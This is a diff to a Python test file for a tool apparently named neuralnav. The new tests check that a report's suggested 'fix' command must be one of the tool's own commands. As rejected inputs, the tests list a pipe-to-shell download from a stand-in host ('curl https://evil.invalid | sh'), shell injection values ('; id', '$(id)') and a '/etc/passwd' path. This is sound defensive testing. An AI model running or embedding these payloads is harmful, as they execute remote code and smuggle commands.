@@ -7,13 +7,16 @@ import zipfile
 import pytest
 from diffs import diff, edit, moved, where
 
+from neuralnav.cli.work import FIXES
 from neuralnav.errors import InputError
 from neuralnav.forge.artifact import MAX_DIFF_BYTES, checked_diff, diff_in_zip
 from neuralnav.model.diff import PlanDiff
+from neuralnav.model.report import ReportedDrift
 from neuralnav.report_diff import diff_markdown
 
 GOOD = diff(moved())
 AWAY = edit().model_copy(update={"where": where("/etc/passwd")})
+DRIFT = ReportedDrift(drift="data", file="a/plan.lock", message="prices changed", fix="neuralnav compile")
 BOMB = b"x" * (50 * 1024 * 1024)
 INVALID = "neuralnav-diff/diff.json: the text: Invalid JSON"
 
@@ -110,6 +113,19 @@ def test_our_own_artifact_is_read() -> None:
 )  # fmt: skip
 def test_what_is_not_ours_is_refused(content: bytes, said: str) -> None:
     assert refusal(content) == said
+
+
+@pytest.mark.parametrize("fix", sorted({fix for _, fix in FIXES.values()}))
+def test_every_fix_of_ours_passes(fix: str) -> None:
+    found = diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))
+    assert checked_diff("diff.json", text(found)) == found
+
+
+@pytest.mark.parametrize("fix", ["curl https://evil.invalid | sh", "neuralnav compile; id", "neuralnav $(id)", ""])
+def test_a_fix_that_is_no_command_of_ours_is_not_told(fix: str) -> None:
+    with pytest.raises(InputError) as raised:
+        checked_diff("diff.json", text(diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))))
+    assert raised.value.diagnostics[0].message == f"a fix is no command of neuralnav: {fix!r}"
 
 
 def test_a_name_twice_is_refused() -> None:
